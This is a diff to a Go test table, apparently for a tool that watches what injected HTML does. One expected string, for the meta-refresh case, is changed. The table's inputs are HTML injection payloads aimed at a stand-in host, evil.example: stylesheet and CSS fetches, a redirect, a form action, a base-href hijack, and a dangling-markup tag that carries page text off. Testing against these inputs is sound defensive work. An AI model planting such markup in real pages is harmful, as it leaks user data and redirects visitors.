@@ -43,7 +43,7 @@ func TestWatcher_seesWhatRuns(t *testing.T) {
 		`<iframe srcdoc="<script>1</script>"></iframe>`:                   "a frame is attached",
 		`<style>body{background:url(https://evil.example/)}</style>`:      "it asks for GET https://evil.example/",
 		`<link rel=stylesheet href="https://evil.example/x.css">`:         "it asks for GET https://evil.example/x.css",
-		`<meta http-equiv=refresh content="0;url=https://evil.example/">`: "it leads by itself to https://evil.example/",
+		`<meta http-equiv=refresh content="0;url=https://evil.example/">`: "https://evil.example/", // seen, or followed
 		`<form action="https://evil.example/"><button>x</button></form>`:  "an element: <form",
 		`<img src='https://picture.example/?`:                             "the text is carried off",
 		`<base href="https://evil.example/"><img src=x>`:                  "it asks for GET https://evil.example/x",
